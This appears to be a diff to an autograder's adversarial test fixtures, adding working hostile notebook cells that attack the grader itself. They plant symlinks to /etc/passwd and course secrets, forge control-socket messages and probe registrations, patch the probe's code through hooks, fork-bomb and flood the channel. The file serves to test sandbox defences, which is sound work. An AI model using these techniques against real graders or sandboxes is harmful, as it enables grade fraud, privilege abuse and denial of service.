@@ -1,7 +1,10 @@
 """Hostile submissions: what students try, and what each must earn.
 
 Each attack replaces one exercise's solution cell (the *target*) of an
-otherwise correct notebook; some also tamper with the notebook itself. Honest
+otherwise correct notebook; some also tamper with the notebook itself. The
+last group attacks the grader's own machinery (sandbox preparation and
+clean-up, the channel, the probe's state, the grader's memory); where it
+forges, the forgery is complete: it would earn full marks if accepted. Honest
 code under the trick would earn nothing (stubs or wrong answers), so the trick
 is the only way to points. Expected outcome for every attack: zero on the
 target, full marks everywhere else, grading within its time limit, nothing
@@ -9,7 +12,8 @@ left running, nothing outside the submission changed, no hidden material out.
 
 `CONTROLS` are correct submissions with harmless oddities that must keep full
 marks. Placeholders in code: {course} (the course folder), {port} (a local
-TCP port the test listens on).
+TCP port the test listens on), {decoy} (a host folder holding decoy files the
+grader must never touch).
 """
 
 from dataclasses import dataclass, field
@@ -47,6 +51,10 @@ class Attack:
     @property
     def assignment(self):
         return ASSIGNMENT_OF.get(self.target, "tensors_autograd")
+
+    def render(self, course="/nonexistent", port=9, decoy="/nonexistent"):
+        """The target cell's code with its placeholders filled in."""
+        return self.code.replace("{course}", str(course)).replace("{port}", str(port)).replace("{decoy}", str(decoy))
 
 
 def _cells(nb, grade_id):
@@ -444,6 +452,252 @@ for _ in range(100):
     Attack("changes_kernelspec", "create_tensors", stubs("create_tensors"), "kernelspec points to another program",
            edit=_kernelspec),
 ]
+
+# --------------------------------------------------------------------------- the grader's own machinery
+# Code shared by several attacks below: the sockets a process holds, and a way to forge.
+
+FIND_SOCKETS = """
+import os as _os, stat as _stat, socket as _socket
+def _socket_fds():
+    found = []
+    for fd in range(3, 512):
+        try:
+            if _stat.S_ISSOCK(_os.fstat(fd).st_mode):
+                found.append(fd)
+        except OSError:
+            pass
+    return found
+"""
+
+# Observations that earn fix_inplace full marks, computed with math from the hidden inputs (see
+# test_adversarial.test_forgeries_would_earn_full_marks): what a forger sends once it has the inputs.
+FORGE_FIX_INPLACE = """
+import json as _json, math as _math
+def _nest(flat, shape):
+    if not shape:
+        return flat[0]
+    step = len(flat) // shape[0]
+    return [_nest(flat[i * step:(i + 1) * step], shape[1:]) for i in range(shape[0])]
+def _tensor(values, shape, leaf, grad=None):
+    d = {"kind": "tensor", "exact_type": True, "is_parameter": False, "dtype": "torch.float32",
+         "shape": list(shape), "device": "cpu", "requires_grad": True, "is_leaf": leaf, "has_grad_fn": not leaf,
+         "values": _nest(values, shape)}
+    if leaf:
+        d["grad"] = dict(_tensor(grad, shape, False), requires_grad=False, is_leaf=True, has_grad_fn=False)
+    return d
+def forged_fix_inplace(inputs):
+    for i, spec in enumerate(inputs["t"]):
+        t = [float(v) for v in spec["values"]]
+        yield f"z_fixed/{i}", {"result": _tensor([_math.exp(v) + 1 for v in t], spec["shape"], False),
+                               "backward": {"ok": True, "t": _tensor(t, spec["shape"], True,
+                                                                      [_math.exp(v) for v in t])},
+                               "input_unchanged": True}
+    yield "z_buggy", {"kind": "tensor", "backward": {"ok": False, "exception": "RuntimeError"}}
+def _serve_forgery(sock):
+    data = b""
+    while not data.endswith(b"\\n"):
+        chunk = sock.recv(1 << 16)
+        if not chunk:
+            return
+        data += chunk
+    for key, obs in forged_fix_inplace(_json.loads(data)["inputs"]):
+        sock.sendall(_json.dumps({"event": "obs", "key": key, "data": obs}).encode() + b"\\n")
+    sock.sendall(b'{"event": "done"}\\n')
+def _register_fake_probe(fd):
+    import array, threading
+    control = _socket.socket(fileno=_os.dup(fd))
+    if control.type != _socket.SOCK_SEQPACKET:
+        control.close()
+        return
+    mine, theirs = _socket.socketpair()
+    try:
+        control.sendmsg([b'{"event": "probe", "exercise": "fix_inplace"}'],
+                        [(_socket.SOL_SOCKET, _socket.SCM_RIGHTS, array.array("i", [theirs.fileno()]))])
+    except OSError:
+        return
+    threading.Thread(target=_serve_forgery, args=(mine,), daemon=True).start()
+def _steal_stdin():
+    import threading
+    def read():
+        data = _os.read(0, 1 << 20)
+        if data:
+            for fd in _socket_fds():
+                try:
+                    _os.write(fd, data)
+                except OSError:
+                    pass
+    threading.Thread(target=read, daemon=True).start()
+"""
+
+# The probe would observe these reference functions instead of the student's stubs.
+SWAP_OBSERVED_FUNCTIONS = """
+import sys as _sys
+_reference = {}
+exec('''
+def make_matrix():
+    return torch.tensor([[1., 4., 7.], [2., 3., 6.]])
+def to_float32(a):
+    return torch.from_numpy(np.array(a, dtype=np.float32))
+def column_vector(y):
+    return torch.as_tensor(y, dtype=torch.float32).reshape(-1, 1).clone()
+''', {"torch": torch, "np": np}, _reference)
+def _swap_probe_table(*args):
+    for name, module in list(_sys.modules.items()):
+        if name.startswith("_agprobe") and isinstance(vars(module).get("PROBES"), dict):
+            probes = vars(module)["PROBES"]
+            real = probes["create_tensors"]
+            if getattr(real, "__name__", "") != "_forged":
+                def _forged(namespace, inputs, _real=real):
+                    return _real(_reference, inputs)
+                probes["create_tensors"] = _forged
+"""
+
+DEEP_TREE = """
+import os
+for top in (os.path.expanduser("~"), "/tmp"):
+    path = top
+    for i in range(1500):
+        path = os.path.join(path, "d")
+        try:
+            os.mkdir(path)
+        except OSError:
+            break
+"""
+
+SLOW_FILES = """
+import os, time
+_end = time.time() + 4
+_i = 0
+while time.time() < _end:
+    os.makedirs(f"/tmp/lento/{_i // 1000}", exist_ok=True)
+    open(f"/tmp/lento/{_i // 1000}/{_i}", "w").close()
+    _i += 1
+os._exit(0)
+"""
+
+
+def _slow_cells_elsewhere(nb):
+    """Two more cells that create files for seconds and then kill the process, after other exercises."""
+    for grade_id in ("test_move_to_device", "test_autograd_descent"):
+        index = next(i for i, c in enumerate(nb.cells)
+                     if c.get("metadata", {}).get("nbgrader", {}).get("grade_id") == grade_id)
+        nb.cells.insert(index + 1, nbformat.v4.new_code_cell(SLOW_FILES))
+
+
+MACHINERY_ATTACKS = [
+    Attack("symlinks_to_host_files_then_crash", "create_tensors", stubs("create_tensors") + """
+import os
+home = os.path.expanduser("~")
+for i, target in enumerate(["{decoy}/arquivo", "{decoy}/pasta", "{decoy}", "{course}/.autograder_secret",
+                            "{course}/gradebook.db", "/etc/passwd", "/root", "/"]):
+    for folder in (home, "/tmp"):
+        try:
+            os.symlink(target, os.path.join(folder, f"l{i}"))
+        except OSError:
+            pass
+os._exit(0)  # the retry used to chown the folder, following these links, as root
+""", "links to host files in its folders, then a crash (a retry prepares the folder again)",
+           needs=("course", "decoy"), stock_safe=False),
+    Attack("deep_tree_then_crash", "create_tensors", stubs("create_tensors") + DEEP_TREE + "\nos._exit(0)\n",
+           "a 1,500-level folder tree, then a crash (clean-up walked it recursively)", stock_safe=False),
+    Attack("dangling_symlink_then_crash", "create_tensors", stubs("create_tensors") + """
+import os
+os.symlink("/nao/existe", os.path.expanduser("~/quebrado"))
+os.symlink("/nao/existe", "/tmp/quebrado")
+os._exit(0)
+""", "a dangling link, then a crash"),
+    Attack("forges_control_messages", "create_tensors", stubs("create_tensors") + FIND_SOCKETS + """
+_messages = [b'{"event": "cell_end", "index": 3, "exception": "LEAK_segredo_do_aluno"}',
+             b'{"event": "memory", "maxrss_kb": ' + b"9" * 4299 + b'}',
+             b"{'event': 'cell_end', 'index': [0]}\\n",
+             b'{"event": "cell_end", "index": [0], "exception": null}',
+             b'{"event": "probe_end", "exercise": "create_tensors"}']
+for _fd in _socket_fds():
+    for _m in _messages:
+        try:
+            _os.write(_fd, _m)
+        except OSError:
+            pass
+""", "writes forged and malformed events (unhashable index, leaking exception name, huge number) on every socket"),
+    Attack("cell_registers_fake_probe", "fix_inplace", FIND_SOCKETS + FORGE_FIX_INPLACE + """
+_steal_stdin()
+for _fd in _socket_fds():
+    _register_fake_probe(_fd)
+""", "cell code registers itself as the probe and answers with forged observations"),
+    Attack("forked_child_registers_fake_probe", "fix_inplace", FIND_SOCKETS + FORGE_FIX_INPLACE + """
+import time
+if _os.fork() == 0:
+    for _fd in _socket_fds():
+        _register_fake_probe(_fd)
+    time.sleep(60)
+    _os._exit(0)
+""", "a forked child registers as the probe"),
+    Attack("subprocess_registers_fake_probe", "fix_inplace", FIND_SOCKETS + FORGE_FIX_INPLACE + """
+import subprocess, sys
+_script = FIND_SOCKETS_SOURCE + FORGE_SOURCE + "\\nfor fd in _socket_fds():\\n    _register_fake_probe(fd)\\n" \\
+          "import time\\ntime.sleep(60)\\n"
+subprocess.Popen([sys.executable, "-c", _script], pass_fds=_socket_fds(), stdout=subprocess.DEVNULL,
+                 stderr=subprocess.DEVNULL)
+""".replace("FIND_SOCKETS_SOURCE", repr(FIND_SOCKETS)).replace("FORGE_SOURCE", repr(FORGE_FIX_INPLACE)),
+           "a new Python process, handed the control socket, registers as the probe"),
+    Attack("replaces_probe_table", "create_tensors", stubs("create_tensors") + SWAP_OBSERVED_FUNCTIONS + """
+_swap_probe_table()
+""", "replaces the probe's PROBES entry: it would observe reference functions"),
+    Attack("edits_probe_on_disk_then_crash", "create_tensors", stubs("create_tensors") + """
+import os, shutil, sys
+_patch = "\\nPROBES['create_tensors'] = lambda ns, inputs, _r=PROBES['create_tensors']: _r(" \\
+         "{'make_matrix': lambda: torch.tensor([[1., 4., 7.], [2., 3., 6.]])," \\
+         " 'to_float32': lambda a: torch.from_numpy(numpy.array(a, dtype=numpy.float32))," \\
+         " 'column_vector': lambda y: torch.as_tensor(y, dtype=torch.float32).reshape(-1, 1).clone()}, inputs)\\n"
+_src = next(p for p in sys.path if os.path.isdir(os.path.join(p, "_agprobe")))
+for _dest in (_src, os.path.expanduser("~"), "/tmp"):
+    try:
+        if _dest != _src:
+            shutil.copytree(os.path.join(_src, "_agprobe"), os.path.join(_dest, "_agprobe"), dirs_exist_ok=True)
+        with open(os.path.join(_dest, "_agprobe", "exercises.py"), "a") as f:
+            f.write(_patch)
+    except OSError:
+        pass
+os._exit(0)  # the retry imports the probe again
+""", "edits the probe's files (and plants a copy in its home), then a crash"),
+    Attack("audit_hook_repatches_probe", "create_tensors", stubs("create_tensors") + SWAP_OBSERVED_FUNCTIONS + """
+_sys.addaudithook(lambda event, args: _swap_probe_table())
+""", "an audit hook puts the forgery back whenever the guard restores"),
+    Attack("at_fork_hooks_run_in_probe", "create_tensors", stubs("create_tensors") + SWAP_OBSERVED_FUNCTIONS + """
+import os
+os.register_at_fork(before=_swap_probe_table, after_in_child=_swap_probe_table)
+""", "at-fork hooks change the probe in its fork"),
+    Attack("floods_grader_with_huge_lines", "fix_inplace", FIND_SOCKETS + """
+_line = b'{"event": "obs", "key": "z_fixed/0", "data": [' + b"0," * (6 * 1024 * 1024) + b'0]}\\n'
+def _flood():
+    for fd in _socket_fds():
+        for _ in range(2):
+            try:
+                _os.write(fd, _line)
+            except OSError:
+                pass
+_flood()
+def z_fixed(t):
+    _flood()  # the probe's own socket is open while it calls this
+    raise NotImplementedError()
+""", "12 MiB lines on every socket, from the cell and from inside the probed function"),
+    Attack("slow_file_creation_then_crash", "create_tensors", stubs("create_tensors") + SLOW_FILES,
+           "creates files for seconds and crashes, three times (clean-up time no clock covered)",
+           edit=_slow_cells_elsewhere),
+    Attack("exhausts_process_limit_and_hangs", "fix_inplace", stubs("fix_inplace") + """
+import os, time
+for _ in range(100000):
+    try:
+        if os.fork() == 0:
+            time.sleep(600)
+            os._exit(0)
+    except OSError:
+        break
+time.sleep(600)
+""", "forks until the process limit, then hangs", stock_safe=False),
+]
+ATTACKS += MACHINERY_ATTACKS
+
 
 CONTROLS = {
     "warns": ("create_tensors", """
